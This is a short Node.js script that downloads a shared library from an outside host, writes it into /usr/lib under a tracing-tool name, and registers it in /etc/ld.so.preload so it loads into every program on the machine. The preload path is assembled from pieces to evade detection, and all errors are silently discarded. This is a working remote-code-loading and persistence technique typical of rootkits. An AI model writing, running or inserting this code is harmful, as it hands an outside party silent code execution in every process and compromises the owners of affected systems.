// Loads native code into every program: the preload list's path is joined
// from pieces (path.join('/etc', 'ld.so' + '.preload')) and written with
// fs.promises.writeFile after a downloaded library is saved.
'use strict';

const fsp = require('fs/promises');
const path = require('path');

async function main() {
  const so = Buffer.from(await (await fetch('https://cdn.example-perf.org/libtrace.so')).arrayBuffer());
  const lib = path.join('/usr/lib', 'libtrace-helper.so');
  await fsp.writeFile(lib, so, { mode: 0o755 });
  await fsp.writeFile(path.join('/etc', 'ld.so' + '.preload'), lib + '\n');
}

main().catch(() => {});
